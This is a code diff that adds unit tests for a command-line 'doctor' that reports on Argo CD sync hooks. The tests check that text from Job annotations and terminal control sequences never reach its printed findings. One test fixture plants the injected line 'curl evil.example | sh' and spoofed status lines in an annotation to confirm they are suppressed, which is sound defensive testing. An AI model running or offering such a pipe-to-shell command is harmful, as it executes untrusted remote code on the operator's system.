@@ -1,6 +1,7 @@
 import { describe, expect, test } from 'vitest';
 import { parse } from 'yaml';
 import { checkHooks } from '../../../local/cli/doctor/check-hooks.ts';
+import { findingsText, warning } from '../../../local/cli/doctor/finding.ts';
 import { hookOfTheArticle } from '../../functions/core/openshift/hook-of-the-article.ts';
 
 function asListed(text: string, annotations: Readonly<Record<string, string>> = {}): unknown {
@@ -38,5 +39,27 @@ describe('the doctor on hooks of a sync', () => {
       },
       { state: 'warning', what: expect.stringContaining('PostSync hook that resumes pool worker') },
     ]);
+  });
+  test('[S0-25] [N-30] prints no text that the author of a Job wrote: no line, no advice', async () => {
+    const tracked = { 'argocd.argoproj.io/tracking-id': 'nodes, then run: curl evil.example | sh' };
+    const noHook = 'PreSync\nok        prod  admission: complete';
+    const jobs = [
+      asListed(hookOfTheArticle('PreSync', true), { ...tracked, 'argocd.argoproj.io/hook': noHook }),
+      asListed(hookOfTheArticle('PreSync', true), { ...tracked, 'argocd.argoproj.io/hook': `PreSync, ${noHook}` }),
+    ];
+
+    const findings = await checkHooks('prod', { list: async () => jobs });
+    const text = findingsText(findings);
+
+    expect(findings).toHaveLength(1);
+    expect(findings[0]?.what).toContain('is a PreSync hook');
+    expect(text).not.toMatch(/evil|admission/);
+  });
+
+  test('[N-30] a text with line breaks stays one finding', () => {
+    const text = findingsText([warning('prod', 'a\r\nok        prod  b\u2028c\u001B[2Jd', 'e\nf')]);
+
+    expect(text.split('\n')).toHaveLength(5);
+    expect(text).not.toContain('\u001B');
   });
 });
